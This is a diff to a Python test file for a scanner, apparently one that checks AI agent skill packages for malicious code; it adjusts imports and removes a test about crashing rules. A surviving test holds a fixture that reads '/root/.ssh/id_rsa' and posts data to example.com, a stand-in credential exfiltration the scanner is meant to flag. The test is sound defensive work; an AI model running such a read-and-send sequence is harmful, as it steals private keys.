@@ -10,10 +10,9 @@ from assay.model.finding import Finding, Report
 from assay.model.source import Source
 from assay.scan.examine import MAX_FINDINGS_PER_RULE_AND_FILE
 from assay.scan.excerpt import MAX_EXCERPT, excerpt_of
-from assay.scan.rule import Rule
-from assay.scan.ruleset import load_ruleset, ruleset_of
-from assay.scan.scan import UNEXAMINED, scan_source
-from assay.scan.search import Search
+from assay.scan.ruleset import load_ruleset
+from assay.scan.scan import scan_source
+from assay.scan.unexamined import UNEXAMINED
 
 RULESET = load_ruleset()
 SKILL_MD = b"---\nname: tidy\ndescription: Tidies up.\n---\n# Tidy\n"
@@ -165,30 +164,6 @@ def test_what_stands_far_apart_is_not_put_together() -> None:
     read, send = "open('/root/.ssh/id_rsa')\n", "requests.post('https://example.com', data=x)\n"
     assert "EX-001" in ids(scan(**{"a.py": read + "\n" * 10 + send}))
     assert "EX-001" not in ids(scan(**{"a.py": read + "\n" * 200 + send}))
-
-
-class Crashing(Search, frozen=True, dict=True):
-    """A search that dies."""
-
-    def matches(self, view: object) -> object:
-        raise RuntimeError("secret content")
-
-
-def test_a_rule_that_crashes_yields_a_finding_and_the_others_go_on() -> None:
-    """The scanner fails closed: never silence, and never the text of an error that may quote the skill."""
-    good = next(rule for rule in RULESET.rules if rule.id == "DR-001")
-    bad = Rule(**{**_fields(good), "id": "ZZ-001", "patterns": (Crashing(find="x"),)})
-    source = Source({"SKILL.md": SKILL_MD, "run.sh": PIPED.encode()}, commit="0" * 40)
-    report = scan_source(source, ruleset_of([*RULESET.rules, bad]))
-    unexamined = [finding for finding in report.findings if finding.family == UNEXAMINED]
-    assert [finding.file for finding in unexamined] == ["SKILL.md", "run.sh"]
-    assert all("ZZ-001 could not be examined" in finding.message for finding in unexamined)
-    assert "secret" not in repr(unexamined)
-    assert "DR-001" in ids(report)
-
-
-def _fields(rule: Rule) -> dict[str, object]:
-    return {name: getattr(rule, name) for name in rule.__struct_fields__}
 
 
 def test_findings_are_bounded_and_the_surest_are_kept() -> None:
